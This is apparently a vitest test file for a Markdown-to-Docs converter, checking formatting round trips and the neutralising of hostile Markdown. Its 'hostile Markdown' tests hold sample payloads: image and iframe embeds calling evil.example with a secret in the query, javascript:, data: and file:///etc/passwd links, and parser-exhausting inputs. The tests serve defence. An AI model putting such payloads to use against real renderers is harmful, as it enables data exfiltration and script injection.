import { describe, expect, test } from 'vitest'
import { applyRequests } from '../../../local/simulator/docs/apply-requests.ts'
import { exportMarkdown } from '../../../local/simulator/docs/export-markdown.ts'
import { emptyPaper, type Paper, wordsOf } from '../../../local/simulator/docs/paper.ts'
import { docsRequests } from '../../../shared/integrations/markdown/docs-requests.ts'
import { plainText } from '../../../shared/integrations/markdown/plain-text.ts'
import { withoutEmbeds } from '../../../supabase/functions/docs-api/without-embeds.ts'

/** Adds Markdown at the end, as Docs would carry the requests out. */
function add(paper: Paper, markdown: string): Paper {
  const last = paper.units.length
  const afterText = last > 1 && paper.units[last - 2]?.text !== '\n'
  return applyRequests(paper, docsRequests(markdown, { index: last, afterText })).paper
}

const roundTrip = (markdown: string) => exportMarkdown(add(emptyPaper(), markdown))

describe('Markdown comes back from a document as it went in', () => {
  test.each<[string, string]>([
    ['headings', '# One\n\n## Two\n\n###### Six'],
    ['emphasis', 'Some **bold**, *italic*, ***both***, ~~struck~~ and `code`.'],
    ['a link', 'See [the plan](https://example.com/a?b=c).'],
    ['paragraphs', 'First.\n\nSecond 🚢 with ünïcode.\n\nThird.'],
    ['a list', '* one\n* two\n  * deeper\n    * deepest\n* three'],
    ['a numbered list', '1. one\n1. two\n   1. deeper'],
    ['two lists of different kinds', '* a\n* b\n\nand\n\n1. c\n1. d'],
    ['a table', '| a | b |\n| ---- | ---- |\n| 1 | **2** |'],
    ['a table after a list', '* x\n* y\n\n| a |\n| ---- |\n| 1 |\n\nafter'],
    ['two tables', '| a |\n| ---- |\n| 1 |\n\n| b |\n| ---- |\n| 2 |'],
    ['a quote', '> said **he**'],
    ['a rule', 'above\n\n---\n\nbelow'],
  ])('%s', (name, markdown) => {
    const head = (text: string) => text.replace(/^\| (.*?) \|$/m, '| $1 |')
    const expected = /table/.test(name)
      ? markdown.replace(
          /\| ([ab](?: \| b)?) \|/g,
          (_, cells) =>
            `| ${cells
              .split(' | ')
              .map((cell: string) => `**${cell}**`)
              .join(' | ')} |`,
        )
      : markdown
    expect(head(roundTrip(markdown))).toBe(`${expected}\n`)
  })

  test.each(['-', '_', '*', '='])('a line of %j is no reason to take the rest as plain text', (sign) => {
    expect(roundTrip(`**bold**\n\n${sign.repeat(150)}\n\n## end`)).toMatch(/^\*\*bold\*\*[\s\S]*## end\n$/)
  })

  test('what is added later stands after what is there, and looks like itself', () => {
    let paper = add(emptyPaper(), '# Notes\n\n* **a**\n* b')
    paper = add(paper, 'plain')
    paper = add(paper, '* c')
    paper = add(paper, '| h |\n|-|\n| 1 |')
    paper = add(paper, 'end')
    expect(exportMarkdown(paper)).toBe(
      '# Notes\n\n* **a**\n* b\n\nplain\n\n* c\n\n| **h** |\n| ---- |\n| 1 |\n\nend\n',
    )
  })

  test('a code block is one paragraph in the font of code', () => {
    expect(roundTrip('```js\nlet a = 1 < 2\n\nb()\n```')).toBe('`let a = 1 < 2  \n  \nb()`\n')
  })

  test('tasks show whether they are done', () => {
    expect(roundTrip('- [x] a\n- [ ] b')).toBe('* ☑ a\n* ☐ b\n')
  })

  test('a list of two kinds keeps its numbers', () => {
    expect(roundTrip('1. a\n   - x\n   - y\n2. b')).toBe('1. a\n   1. x\n   1. y\n1. b\n')
    expect(roundTrip('- a\n  1. x\n- b')).toBe('* a\n   1. x\n* b\n')
  })
})

describe('hostile Markdown', () => {
  const fetched = /insertInlineImage|replaceImage|"uri"|sourceUri/

  test('no picture and no tag is ever fetched: they are links and text', () => {
    const hostile =
      '![a](https://evil.example/?q=secret) <img src="https://evil.example/x"> ![b][r]\n\n<iframe src="https://evil.example"></iframe>\n\n[r]: https://evil.example/r'
    const requests = docsRequests(hostile, { index: 1, afterText: false })
    expect(JSON.stringify(requests)).not.toMatch(fetched)
    expect(wordsOf(applyRequests(emptyPaper(), requests).paper)).toContain('<img src=')
    const uploaded = withoutEmbeds(hostile)
    expect(uploaded).not.toMatch(/!\[|<[a-z]/i)
    expect(uploaded).toContain('[a](https://evil.example/?q=secret)')
  })

  test('Markdown without pictures is uploaded as it is', () => {
    const harmless = 'a < b and <https://example.com> and `![x](y)` and 3 > 2!\n\n```html\n<img>\n```'
    expect(withoutEmbeds(harmless)).toBe(harmless)
  })

  test('links lead to the web and to mail, nowhere else', () => {
    const links =
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](mailto:a@b.example)'
    const requests = JSON.stringify(docsRequests(links, { index: 1, afterText: false }))
    expect(requests.match(/"url":"[^"]*"/g)).toEqual(['"url":"mailto:a@b.example"'])
  })

  test('characters that Docs strips are stripped here, so that every index holds', () => {
    const odd = 'a\u0000b\u0007c\ue000d\ud800e **bold** \u000bx'
    expect(wordsOf(add(emptyPaper(), odd))).toBe('abcde bold \vx\n')
    expect(roundTrip(odd)).toContain('**bold**')
  })

  test.each<[string, string]>([
    ['deep quotes', `${'>'.repeat(20_000)}a`],
    ['deep lists in a line', `${'- '.repeat(5_000)}a`],
    ['stars', `${'*'.repeat(50_000)}a${'*'.repeat(50_000)}`],
    ['stars in words', '**a*b'.repeat(20_000)],
    ['exclamations', '!'.repeat(100_000)],
    ['brackets', '['.repeat(50_000)],
    ['pictures', '!['.repeat(50_000)],
    ['links', '[a]('.repeat(20_000)],
    ['only blanks', ' \n\t\n'.repeat(1000)],
    ['only a comment', '<!-- nothing -->'],
    ['only a definition', '[a]: https://example.com'],
    ['an empty item', '-'],
    ['an empty heading', '#'],
    ['an empty table', '| |\n|-|\n| |'],
    ['uneven rows', '| a | b |\n|-|-|\n| 1 |\n| 1 | 2 | 3 |'],
    ['a table in a list', '- a\n\n  | b |\n  |-|\n  | c |'],
  ])('%s becomes a document', (_, markdown) => {
    const paper = add(add(emptyPaper(), 'before'), markdown)
    expect(wordsOf(paper)).toMatch(/^before/)
    expect(paper.units.at(-1)?.text).toBe('\n')
  })

  test('a table of 10,000 cells keeps every cell at its place', () => {
    const row = (r: number) => `| ${Array.from({ length: 20 }, (_, c) => `r${r}c${c}`).join(' | ')} |`
    const rows = [row(0), `|${'-|'.repeat(20)}`, ...Array.from({ length: 499 }, (_, r) => row(r + 1))]
    const lines = roundTrip(rows.join('\n')).split('\n')
    expect(lines).toHaveLength(502)
    expect(lines[2]).toBe(row(1))
    expect(lines[500]).toBe(row(499))
  })
})

test('the words of a Markdown text, without its marks', () => {
  expect(plainText('Some **bold** [link](https://a.example) and `code`')).toBe('Some bold link and code')
  expect(plainText('plain_text stays * as it is')).toBe('plain_text stays * as it is')
})

test('a short text that asks for a table of millions of cells is taken as plain text', () => {
  const columns = 5_000
  const markdown = `${'|a'.repeat(columns)}\n${'|-'.repeat(columns)}\n${'|b\n'.repeat(5_000)}`
  expect(docsRequests(markdown, { index: 1, afterText: false }).some((one) => 'insertTable' in one)).toBe(
    false,
  )
  expect(withoutEmbeds(markdown)).toBe(markdown)
})

test('a picture behind a footnote is taken out, although it is no token of its own', () => {
  expect(withoutEmbeds('Text[^1]\n\n[^1]: ![a](https://evil.example/?d=S)')).not.toContain('![')
  expect(withoutEmbeds('Text[^1]\n\n[^1]: <img src=u>')).not.toContain('<img')
})
